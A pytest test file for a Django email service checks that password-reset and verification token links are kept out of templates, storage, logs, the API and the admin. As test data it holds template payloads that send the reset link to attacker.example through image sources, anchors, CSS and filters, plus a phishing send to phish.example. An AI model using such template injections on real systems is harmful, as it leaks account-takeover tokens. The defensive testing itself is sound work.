"""Issue 15, class 3: secret links are inserted after rendering and never stored or shown.

The reset link of `reset-password` and the verification link of `verify-email` stay out
of the template context: a filter or an attacker's URL in the template cannot reach the
token, the outbox row, the API, the admin and the logs show it nowhere, and only the
message handed to the email backend carries it.
"""

import importlib
import logging

import pytest
from django.apps import apps
from django.db import connection

from auth_app.models import User
from email_app import services
from email_app.models import EmailSend, EmailTemplate
from permissions_app.services import permission_cache_refresh
from platform_app.flows import password_reset_request, user_onboard
from tests.support import api_client, assert_problem

pytestmark = pytest.mark.django_db

LEAKY_TEXT = (
    "Reset: {{ reset_url }}\n"
    "Encoded: {{ reset_url|urlencode }}\n"
    "Glued: https://attacker.example/?u={{ reset_url }}\n"
)
LEAKY_HTML = (
    '<p><a href="{{ reset_url }}">Reset</a></p>'
    '<img src="https://attacker.example/?{{ reset_url|urlencode }}">'
    '<img src="https://attacker.example/?u={{ reset_url }}">'
)


def reset_send(email: str = "ada@example.com") -> tuple[EmailSend, str]:
    """A verified user's queued reset email, and the token it carries."""
    user = User.objects.filter(email=email).first() or user_onboard(email=email, name="Ada")
    User.objects.filter(pk=user.pk).update(email_verified=True)
    password_reset_request(email=email)
    send = EmailSend.objects.filter(template__key="reset-password", to_email=email).latest(
        "created_at"
    )
    ((_url, token),) = send.link_values().values()
    return send, token


def stored_row(send: EmailSend) -> str:
    """The row as PostgreSQL holds it, every column as text."""
    with connection.cursor() as cursor:
        cursor.execute(
            "SELECT row_to_json(s)::text FROM email.email_sends s WHERE id = %s", [send.pk]
        )
        return cursor.fetchone()[0]


def leaky_template_saved_before_the_rule() -> None:
    # Written around the services, as a template edited before this change would be.
    EmailTemplate.objects.filter(key="reset-password").update(
        text_body=LEAKY_TEXT, html_body=LEAKY_HTML
    )


class TestTheLinkIsInsertedAfterRendering:
    def test_the_outbox_row_holds_neither_link_nor_token_only_the_encrypted_column(self):
        send, token = reset_send()

        row = stored_row(send)

        assert token not in row
        assert "reset-password?token" not in row
        assert send.context["reset_url"] == "[redacted]"
        assert token not in send.text_body and token not in send.html_body

    def test_the_delivered_email_carries_the_working_link_and_the_row_forgets_it(self, smtp):
        send, token = reset_send()

        services.email_deliver(send_id=send.pk)

        (message,) = smtp.inbox.messages
        text = message.get_body(("plain",)).get_content()
        html = message.get_body(("html",)).get_content()
        assert f"/reset-password?token={token}" in text
        assert f'/reset-password?token={token}" style' in html  # the button's href
        send.refresh_from_db()
        assert send.status == EmailSend.Status.SENT and send.links == ""
        response = api_client(None).post(
            "/api/v1/auth/reset-password",
            {"token": token, "new_password": "a new long passphrase 42"},
            format="json",
        )
        assert response.status_code == 200, response.content

    def test_a_template_transforming_the_link_leaks_no_token_anywhere(self, smtp, user_with):
        # The finding: `{{ reset_url|urlencode }}` and an attacker's <img>.
        leaky_template_saved_before_the_rule()
        send, token = reset_send()
        reader = user_with("email:read")

        shown = api_client(reader).get(f"/api/v1/email/sends/{send.pk}").content.decode()
        listed = api_client(reader).get("/api/v1/email/sends").content.decode()
        services.email_deliver(send_id=send.pk)

        assert token not in stored_row(send) and token not in shown and token not in listed
        (message,) = smtp.inbox.messages
        text = message.get_body(("plain",)).get_content()
        html = message.get_body(("html",)).get_content()
        # What the template moved or transformed carries no token: only an untouched,
        # free-standing link does (in the text, the lines are all or nothing per link).
        assert "attacker.example/?u=[redacted]" in text
        assert token not in html.split("attacker.example", 1)[1]
        assert 'src="https://attacker.example/?u=[redacted]"' in html
        assert token not in stored_row(send)

    def test_the_admin_send_page_shows_the_link_redacted(self, admin_client):
        send, token = reset_send()

        page = admin_client.get(f"/admin/email_app/emailsend/{send.pk}/change/")

        assert page.status_code == 200
        html = page.content.decode()
        assert "[redacted]" in html and token not in html
        assert "\u27e6link:" not in html  # the marker itself is shown redacted too

    def test_a_failed_send_is_redacted_by_token_value_even_in_the_servers_reply(self, smtp, caplog):
        send, token = reset_send()

        async def quote_and_refuse(server, session, envelope):
            return f"550 5.7.1 refused: {envelope.content.decode()[-300:]}".replace("\n", " ")

        smtp.inbox.handle_DATA = quote_and_refuse
        with caplog.at_level(logging.INFO):
            services.email_deliver(send_id=send.pk)

        send.refresh_from_db()
        assert send.status == EmailSend.Status.FAILED
        assert "550" in send.last_error and token not in send.last_error
        assert send.links == "" and token not in stored_row(send)
        assert token not in caplog.text

    def test_a_deferred_send_keeps_the_link_encrypted_only(self, smtp, settings):
        send, token = reset_send()
        smtp.stop()

        with pytest.raises(services.DeliveryDeferred):
            services.email_deliver(send_id=send.pk)

        send.refresh_from_db()
        assert send.status == EmailSend.Status.DEFERRED
        assert token not in stored_row(send)  # the links column is Fernet ciphertext
        assert send.link_values()  # and decrypts for the next attempt

    def test_a_secret_link_can_only_go_into_a_template_that_declares_it(self):
        with pytest.raises(ValueError, match="takes no secret link"):
            services.email_queue(
                to_email="x@example.com",
                category="account",
                template_key="welcome",
                context={"user_name": "X"},
                secret_links={"user_name": services.SecretLink("https://x/?token=t", "t")},
            )


class TestSavingATemplateThatMovesTheLinkIsRefused:
    @pytest.mark.parametrize(
        "changes",
        [
            {"text_body": "Open {{ reset_url|urlencode }}"},
            {"text_body": "Open https://attacker.example/?u={{ reset_url }}"},
            {"html_body": '<img src="https://attacker.example/?{{ reset_url|urlencode }}">'},
            {"html_body": '<a href="https://attacker.example/?u={{ reset_url }}">x</a>'},
            {"html_body": "<p>https://attacker.example/?u=<b>{{ reset_url }}</b></p>"},
            {"html_body": "<style>a{background:url({{ reset_url }})}</style>"},
            {"html_body": "<!-- {{ reset_url }} -->"},
            {"subject": "Reset {{ reset_url }}"},
            {"text_body": "{% filter upper %}{{ reset_url }}{% endfilter %}"},
        ],
    )
    def test_by_a_superuser_through_the_api(self, admin_user, changes):
        template = EmailTemplate.objects.get(key="reset-password")

        response = api_client(admin_user).patch(
            f"/api/v1/email/templates/{template.pk}", changes, format="json"
        )

        assert "reset_url" in str(assert_problem(response, 400, "validation_error")["errors"])
        template.refresh_from_db()
        assert template.version == 2  # 1, and the greeting migration

    def test_a_superuser_may_place_the_link_alone(self, admin_user):
        template = EmailTemplate.objects.get(key="reset-password")

        response = api_client(admin_user).patch(
            f"/api/v1/email/templates/{template.pk}",
            {
                "text_body": "New password:\n<{{ reset_url }}>\n",
                "html_body": '<p>Choose one: <a href=" {{ reset_url }} ">link</a></p>',
            },
            format="json",
        )

        assert response.status_code == 200, response.content

    def test_in_the_admin_form(self, admin_client):
        template = EmailTemplate.objects.get(key="reset-password")
        form = {
            "subject": template.subject,
            "text_body": "Open https://attacker.example/?u={{ reset_url }}",
            "html_body": template.html_body,
            "description": template.description,
            "is_active": "on",
        }

        response = admin_client.post(f"/admin/email_app/emailtemplate/{template.pk}/change/", form)

        assert response.status_code == 200
        assert "may stand only alone" in response.content.decode()
        template.refresh_from_db()
        assert "attacker" not in template.text_body


class TestSecurityTemplatesAreForSuperusers:
    @pytest.mark.parametrize("key", ["verify-email", "reset-password", "password-changed"])
    def test_an_email_writer_cannot_change_them_through_the_api(self, user_with, key):
        template = EmailTemplate.objects.get(key=key)
        writer = user_with("email:read", "email:write")

        response = api_client(writer).patch(
            f"/api/v1/email/templates/{template.pk}", {"subject": "Hi"}, format="json"
        )

        assert_problem(response, 403, "template_reserved")
        template.refresh_from_db()
        assert template.subject != "Hi"

    def test_nor_create_one_for_another_locale(self, user_with):
        writer = user_with("email:read", "email:write")

        response = api_client(writer).post(
            "/api/v1/email/templates",
            {"key": "reset-password", "locale": "fr", "subject": "x", "text_body": "x"},
            format="json",
        )

        assert response.status_code == 403
        assert not EmailTemplate.objects.filter(key="reset-password", locale="fr").exists()

    def test_but_may_change_other_templates(self, user_with):
        template = EmailTemplate.objects.get(key="welcome")
        writer = user_with("email:read", "email:write")

        response = api_client(writer).patch(
            f"/api/v1/email/templates/{template.pk}", {"subject": "Hi"}, format="json"
        )

        assert response.status_code == 200

    def test_in_the_admin_a_staff_writer_sees_them_read_only(self, client, user_with):
        writer = user_with("email:read", "email:write")
        User.objects.filter(pk=writer.pk).update(is_staff=True)
        permission_cache_refresh(user_ids=[writer.pk])
        client.force_login(User.objects.get(pk=writer.pk))
        template = EmailTemplate.objects.get(key="reset-password")
        url = f"/admin/email_app/emailtemplate/{template.pk}/change/"

        page = client.get(url)
        posted = client.post(url, {"subject": "Hi", "text_body": "x", "is_active": "on"})
        added = client.post(
            "/admin/email_app/emailtemplate/add/",
            {"key": "verify-email", "locale": "de", "subject": "x", "text_body": "x"},
        )
        deleted = client.post(
            f"/admin/email_app/emailtemplate/{template.pk}/delete/", {"post": "yes"}
        )

        assert page.status_code == 200 and 'name="_save"' not in page.content.decode()
        assert posted.status_code == 403 and deleted.status_code == 403
        assert added.status_code == 200 and "superusers" in added.content.decode()
        assert EmailTemplate.objects.get(pk=template.pk).subject != "Hi"
        assert not EmailTemplate.objects.filter(key="verify-email", locale="de").exists()


class TestEmailSendCannotSendSecurityTemplates:
    @pytest.mark.parametrize("key", ["verify-email", "reset-password", "password-changed"])
    def test_through_the_api(self, user_with, key):
        sender = user_with("email:send")
        before = EmailSend.objects.count()

        response = api_client(sender).post(
            "/api/v1/email/send",
            {
                "to": "victim@example.com",
                "template": key,
                "category": "security",
                "context": {
                    "user_name": "x",
                    "reset_url": "https://phish.example/",
                    "verify_url": "https://phish.example/",
                    "expires_minutes": 1,
                    "expires_hours": 1,
                },
            },
            format="json",
        )

        assert_problem(response, 403, "template_reserved")
        assert EmailSend.objects.count() == before

    def test_nor_resend_one_from_the_admin(self, admin_client):
        send, _token = reset_send()
        before = EmailSend.objects.count()

        response = admin_client.post(
            "/admin/email_app/emailsend/", {"action": "resend", "_selected_action": [send.pk]}
        )

        assert response.status_code == 302
        assert EmailSend.objects.count() == before


def test_rows_queued_before_the_change_keep_their_link_for_delivery_only(smtp):
    migration = importlib.import_module("email_app.migrations.0006_send_links")
    url = "http://localhost:8000/verify-email?token=OldToken123"
    old = {
        status: EmailSend.objects.create(
            to_email=f"{status}@example.com",
            category="account",
            subject="Confirm",
            text_body=f"Open {url}\n",
            html_body=f'<a href="{url}">{url}</a>',
            context={"verify_url": "[redacted]", "_secrets": [url]},
            status=status,
        )
        for status in (EmailSend.Status.QUEUED, EmailSend.Status.FAILED)
    }

    migration.move_secrets(apps, None)

    for send in old.values():
        assert "OldToken123" not in stored_row(send)
        assert "_secrets" not in EmailSend.objects.get(pk=send.pk).context
    services.email_deliver(send_id=old[EmailSend.Status.QUEUED].pk)
    (message,) = smtp.inbox.messages
    assert url in message.get_body(("plain",)).get_content()
    failed = EmailSend.objects.get(pk=old[EmailSend.Status.FAILED].pk)
    assert failed.text_body == "Open [redacted]\n" and failed.links == ""


def test_an_image_source_cannot_hold_the_link(admin_user):
    # A mail client fetches images unasked: the link would be used before anyone clicks.
    template = EmailTemplate.objects.get(key="verify-email")

    response = api_client(admin_user).patch(
        f"/api/v1/email/templates/{template.pk}",
        {"html_body": '<img src="{{ verify_url }}">'},
        format="json",
    )

    assert response.status_code == 400
